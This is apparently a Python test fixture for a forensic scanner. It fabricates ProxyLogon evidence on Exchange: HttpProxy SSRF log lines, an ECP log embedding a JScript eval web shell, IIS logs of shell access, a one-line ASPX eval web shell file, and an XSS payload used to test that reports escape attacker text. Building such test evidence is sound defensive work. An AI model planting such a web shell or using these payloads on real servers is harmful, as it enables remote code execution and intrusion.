"""A tiny ProxyLogon case built in the test: HttpProxy SSRF, ECP script, a web shell and its use.

Excerpts are attacker-controlled text: one request carries ``<script>`` and an ``onerror`` image in
its user agent so the HTML tests can prove they render as text.
"""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

from exhunt.api import ScanOptions, ScanResult, scan

XSS_UA = "<script>window.pwned=1;document.title='pwned'</script><img src=x onerror=\"window.pwned=2\">"

HTTPPROXY = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: HttpProxy Logs\r\n"
    "#Date: 2021-03-03T00:00:00.000Z\r\n"
    "#Fields: DateTime,RequestId,Protocol,UrlStem,AnchorMailbox,UserAgent,ClientIpAddress,HttpStatus,"
    "Method,UrlQuery\r\n"
    "2021-03-03T02:01:02.000Z,r1,Ecp,/ecp/y.js,ServerInfo~a]@exch01.corp.local:444/ecp/proxyLogon.ecp?#,"
    "ExchangeServicesClient/0.0.0.0,203.0.113.9,241,POST,\r\n"
    "2021-03-03T02:01:09.000Z,r2,Ecp,/ecp/y.js,ServerInfo~a]@exch01.corp.local:444/ecp/DDI/DDIService.svc"
    "/SetObject?schema=ResetOABVirtualDirectory#,python-requests/2.25.1,203.0.113.9,200,POST,\r\n"
)
ECP_SERVER = (
    "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n"
    "#Date: 2021-03-03T02:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
    "2021-03-03T02:01:05.000Z,EXCH01,ECP.Request,\"S:TIME=13;S:CMD=Set-OabVirtualDirectory.ExternalUrl="
    "'http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request"
    "[\"\"p\"\"],\"\"unsafe\"\");}</script>'.Identity='OAB (Default Web Site)';S:REQID=\"\r\n"
)
IIS = (
    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
    "#Date: 2021-03-03 00:00:00\r\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "sc-status\r\n"
    "2021-03-03 02:05:00 10.0.0.5 POST /aspnet_client/system_web/shell.aspx - 443 - 203.0.113.9 "
    "Mozilla/5.0 200\r\n"
    "2021-03-04 11:00:00 10.0.0.5 GET /owa/auth/15.1.2176/themes/resources/logo.png - 443 - 10.0.0.77 "
    "Mozilla/5.0 200\r\n"
    "2021-03-20 09:30:00 10.0.0.5 GET /owa/auth/evil.aspx - 443 - 198.51.100.23 "
    f"{XSS_UA.replace(' ', '+')} 200\r\n"
)
SHELL_MTIME = datetime(2021, 3, 3, 2, 4, 30, tzinfo=UTC).timestamp()
SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>\r\n'


def write_evidence(root: Path) -> Path:
    logging = "Program Files/Microsoft/Exchange Server/V15/Logging/"
    files = {
        logging + "HttpProxy/Ecp/HttpProxy_2021030302-1.LOG": HTTPPROXY,
        logging + "ECP/Server/ECPServer2021030302-1.LOG": ECP_SERVER,
        "inetpub/logs/LogFiles/W3SVC1/u_ex210303.log": IIS,
        "inetpub/wwwroot/aspnet_client/system_web/shell.aspx": SHELL,
    }
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(text.encode())
        os.utime(path, (SHELL_MTIME, SHELL_MTIME))
    return root


def build_case(tmp: Path, host: str = "EXCH01") -> ScanResult:
    evidence = write_evidence(tmp / "evidence")
    return scan([evidence], ScanOptions(out=tmp / "case", host=host, jobs=1, quiet=True, progress=False))
